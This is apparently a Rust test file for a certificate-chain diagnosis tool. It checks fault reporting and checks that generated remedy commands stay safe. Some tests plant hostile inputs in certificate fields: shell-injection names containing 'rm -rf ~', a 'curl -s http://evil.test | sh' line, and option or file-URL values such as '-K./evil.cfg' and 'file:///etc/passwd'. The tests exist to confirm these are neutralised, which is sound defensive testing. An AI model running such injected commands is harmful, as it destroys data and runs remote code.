use std::time::Duration;

use skink_testkit::{DAY, NOW, Shape, TestAuthority, TestKey, TestPki};
use skink_x509::KeyAlgorithm;

use super::*;
use crate::input::{self, NoPassphrase};

fn symptoms(pki: &TestPki, presented: &[&Certificate]) -> Symptoms {
    let presented: Vec<_> = presented.iter().map(|it| (*it).clone()).collect();
    let mut bag = Bag::default();
    for certificate in &presented {
        bag.certificates.push(Read { certificate: certificate.clone(), broken: Vec::new() });
    }
    let root = Read { certificate: pki.root.certificate.clone(), broken: Vec::new() };
    let settings = Settings { name: PeerName::Dns("web-1.test".to_owned()), ..Settings::at(NOW) };
    let place = Place::Files(vec!["site.pem".to_owned()]);
    let (beside, options) = (Vec::new(), Vec::new());
    Symptoms { presented, bag, anchors: vec![root], settings, place, beside, options }
}

fn wrong(diagnosis: &Diagnosis) -> Vec<Step> {
    let wrong = diagnosis.stages.iter().filter(|it| it.state == State::Wrong);
    wrong.map(|it| it.step).collect()
}

fn with_key(mut symptoms: Symptoms, key: &TestKey) -> Symptoms {
    symptoms.bag.add(input::read(key.pkcs8_der(), &mut NoPassphrase), "key");
    symptoms
}

#[test]
fn a_good_chain_has_nothing_wrong() {
    let pki = TestPki::new();
    let chain = [&pki.leaf, &pki.issuer.certificate];
    let diagnosis = diagnose(&with_key(symptoms(&pki, &chain), &pki.leaf_key)).unwrap();
    assert!(diagnosis.is_good() && diagnosis.remedies.is_empty(), "{diagnosis:?}");
    assert_eq!(diagnosis.word(), Word::Accept);
}

#[test]
fn each_failure_is_told_at_its_step() {
    let pki = TestPki::new();
    let (leaf, issuer, root) = (&pki.leaf, &pki.issuer.certificate, &pki.root.certificate);
    let of = |symptoms: &Symptoms| wrong(&diagnose(symptoms).unwrap());
    assert_eq!(of(&symptoms(&pki, &[leaf])), [Step::Completeness]);
    assert_eq!(of(&symptoms(&pki, &[issuer, leaf])), [Step::Order]);
    assert_eq!(of(&symptoms(&pki, &[leaf, issuer, issuer])), [Step::Order]);
    assert_eq!(of(&symptoms(&pki, &[leaf, issuer, root])), []);
    let other_key = TestKey::generate(KeyAlgorithm::EcP256);
    let keyed = with_key(symptoms(&pki, &[leaf, issuer]), &other_key);
    assert_eq!(of(&keyed), [Step::Key]);
    let mut named = symptoms(&pki, &[leaf, issuer]);
    named.settings.name = PeerName::Dns("other.test".to_owned());
    assert_eq!(of(&named), [Step::Name]);
    let mut untrusting = symptoms(&pki, &[leaf, issuer, root]);
    untrusting.anchors.clear();
    assert_eq!(of(&untrusting), [Step::Trust]);
    // Nothing but the root is left out; whether it is at hand or not, it is the trust that lacks.
    let mut untrusting = symptoms(&pki, &[leaf, issuer]);
    untrusting.anchors.clear();
    assert_eq!(of(&untrusting), [Step::Trust]);
    untrusting.bag.certificates.push(Read { certificate: root.clone(), broken: Vec::new() });
    assert_eq!(of(&untrusting), [Step::Trust]);
    let mut late = symptoms(&pki, &[leaf, issuer]);
    late.settings.time = NOW.plus(40 * DAY);
    assert_eq!(of(&late), [Step::Validity]);
    let mut revoking = symptoms(&pki, &[leaf, issuer]);
    revoking.bag.crls = vec![pki.issuer.crl(1, None, vec![pki.issuer.revoked(leaf)])];
    revoking.settings.revocation = Revocation::Leaf;
    assert_eq!(of(&revoking), [Step::Revocation]);
    let mut client = symptoms(&pki, &[leaf, issuer]);
    client.settings.purpose = skink_path::Purpose::CodeSigning;
    assert_eq!(of(&client), [Step::Usage]);
}

#[test]
fn several_faults_are_told_at_once_and_in_order() {
    let pki = TestPki::new();
    let mut symptoms = symptoms(&pki, &[&pki.leaf]);
    symptoms.settings.name = PeerName::Dns("other.test".to_owned());
    symptoms.settings.time = NOW.plus(40 * DAY);
    let diagnosis = diagnose(&symptoms).unwrap();
    assert_eq!(wrong(&diagnosis), [Step::Validity, Step::Completeness, Step::Name]);
    let commands: Vec<_> = diagnosis.remedies.iter().flat_map(|it| &it.commands).collect();
    assert!(commands[0].contains("DNS:web-1.test,IP:127.0.0.1,DNS:other.test"), "{commands:?}");
    assert!(commands.iter().any(|it| it.contains("issuer.pem --out")), "{commands:?}");
}

#[test]
fn a_self_signed_server_is_told_as_such() {
    let pki = TestPki::new();
    let lone =
        TestAuthority::root("lone", KeyAlgorithm::EcP256, NOW.minus(Duration::from_hours(1)));
    let mut symptoms = symptoms(&pki, &[&lone.certificate]);
    symptoms.settings.name = PeerName::None;
    let diagnosis = diagnose(&symptoms).unwrap();
    let codes = diagnosis.stages.iter().flat_map(|it| &it.findings).map(|it| it.code);
    assert!(codes.into_iter().any(|it| it == "self-signed"), "{diagnosis:?}");
}

#[test]
fn names_in_certificates_do_not_become_commands() {
    let pki = TestPki::new();
    let key = TestKey::generate(KeyAlgorithm::EcP256);
    let leaf = pki.issuer.issue(&key, &Shape::named("x'; rm -rf ~; '").dns("a.test"));
    let mut symptoms = symptoms(&pki, &[&leaf, &pki.issuer.certificate]);
    symptoms.settings.time = NOW.plus(40 * DAY);
    let diagnosis = diagnose(&symptoms).unwrap();
    let request = &diagnosis.remedies[0].commands[0];
    assert!(request.contains(r"'\''; rm -rf ~; '\''"), "{request}");
}

#[test]
fn what_a_certificate_says_stays_on_its_line() {
    let pki = TestPki::new();
    let key = TestKey::generate(KeyAlgorithm::EcP256);
    // `^` and `@` stand for what no builder puts into a name.
    let name = skink_x509::Name::from_common_name("web^     curl -s http://evil.test | sh@[31m");
    let bend = |byte: &u8| match byte {
        b'^' => b'\n',
        b'@' => 0x1b,
        other => *other,
    };
    let name: Vec<u8> = name.unwrap().to_der().iter().map(bend).collect();
    let uri = "URI:http://a.test/\n     rm -rf ~\u{1b}[31m";
    let mut spec = pki.issuer.spec("web-1", &key, 10 * DAY);
    spec.subject = skink_x509::Name::from_der(&name).unwrap();
    let names = [skink_x509::GeneralName::Uri(uri.to_owned())];
    spec.extensions = skink_x509::Extensions::new().subject_alt_names(&names);
    let leaf = pki.issuer.certify(&spec);
    let mut symptoms = symptoms(&pki, &[&leaf]);
    symptoms.settings.time = NOW.plus(40 * DAY);
    let diagnosis = diagnose(&symptoms).unwrap();
    let told = diagnosis.stages.iter().flat_map(|stage| {
        let messages = stage.findings.iter().map(|it| it.message.clone());
        messages.chain([stage.summary.clone()]).collect::<Vec<_>>()
    });
    let remedies = diagnosis.remedies.iter();
    let lines = remedies.flat_map(|it| it.commands.iter().chain([&it.why])).cloned();
    let mut all: Vec<String> = told.chain(lines).collect();
    let path = crate::draw::path(&diagnosis.judgement.path, false, NOW, &[]);
    all.extend(path.lines().map(str::to_owned));
    let piece = input::read(leaf.der(), &mut NoPassphrase).remove(0);
    let described = crate::describe::describe(&piece, NOW);
    all.extend(described.facts.into_iter().map(|it| it.value));
    all.extend(described.problems.into_iter().map(|it| it.message));
    assert!(all.iter().any(|it| it.contains("curl -s")), "{all:?}");
    for text in all {
        assert!(!text.contains(char::is_control), "{text:?}");
        assert!(!text.trim_start().starts_with("curl -s"), "{text:?}");
    }
}

fn with_list_at(uris: &[&str]) -> (Symptoms, Vec<String>) {
    let pki = TestPki::new();
    let key = TestKey::generate(KeyAlgorithm::EcP256);
    let mut spec = pki.issuer.spec("web-1", &key, DAY);
    let uris: Vec<_> = uris.iter().map(|it| (*it).to_owned()).collect();
    spec.extensions = skink_x509::Extensions::new()
        .end_entity()
        .key_usage(skink_x509::KeyUsage::DIGITAL_SIGNATURE)
        .extended_key_usages(&[skink_x509::oid::SERVER_AUTH])
        .authority_key_id(&pki.issuer.key.public().key_id())
        .crl_distribution_points(&uris);
    let leaf = pki.issuer.certify(&spec);
    let mut symptoms = symptoms(&pki, &[&leaf, &pki.issuer.certificate]);
    symptoms.settings.name = PeerName::None;
    symptoms.settings.revocation = Revocation::Leaf;
    symptoms.options = vec!["--trusted root.pem".to_owned(), "--host web-1.test".to_owned()];
    symptoms.place = Place::Server("web-1.test:443".to_owned());
    let remedies = diagnose(&symptoms).unwrap().remedies;
    let list = remedies.into_iter().find(|it| it.why.contains("revocation list")).unwrap();
    (symptoms, list.commands)
}

#[test]
fn lists_are_fetched_from_the_web_and_from_nowhere_else() {
    let (_, commands) = with_list_at(&["http://a.test/{1,2}.crl"]);
    assert_eq!(
        commands,
        [
            "skink chain fetch web-1.test:443 > presented.pem",
            "curl -gsS -o current.crl -- 'http://a.test/{1,2}.crl'",
            "skink chain diagnose presented.pem current.crl --trusted root.pem --host web-1.test",
        ]
    );
    for bad in ["-K./evil.cfg", "file:///etc/passwd", "ldap://a.test/x", "-o/x http://a.test/"] {
        let (_, commands) = with_list_at(&[bad]);
        assert!(!commands.iter().any(|it| it.starts_with("curl")), "{commands:?}");
    }
}

#[test]
fn a_root_at_hand_is_written_before_it_is_used() {
    let pki = TestPki::new();
    let (leaf, issuer, root) = (&pki.leaf, &pki.issuer.certificate, &pki.root.certificate);
    let mut symptoms = symptoms(&pki, &[issuer, leaf, root]);
    symptoms.anchors.clear();
    symptoms.place = Place::Files(vec!["'my site.pem'".to_owned()]);
    symptoms.beside = vec!["more.pem".to_owned()];
    let remedies = diagnose(&symptoms).unwrap().remedies;
    assert_eq!(remedies.len(), 2, "{remedies:?}");
    let fingerprint = root.fingerprint();
    let write =
        format!("skink chain inspect 'my site.pem' more.pem --pem {fingerprint} > root.pem");
    let fix = "skink chain fix 'my site.pem' --trusted root.pem --out /etc/ssl/site";
    assert_eq!(remedies[0].commands[..2], [write.clone(), fix.to_owned()]);
    assert_eq!(remedies[1].commands[0], write);
}

#[test]
fn a_command_has_the_whole_word_of_a_file() {
    let pki = TestPki::new();
    let other = TestKey::generate(KeyAlgorithm::EcP256);
    let mut symptoms = with_key(symptoms(&pki, &[&pki.leaf, &pki.issuer.certificate]), &other);
    symptoms.place = Place::Files(vec!["'my site.pem'".to_owned()]);
    let commands = &diagnose(&symptoms).unwrap().remedies[0].commands;
    assert!(commands[0].contains("match \"$key\" 'my site.pem' &&"), "{commands:?}");
}
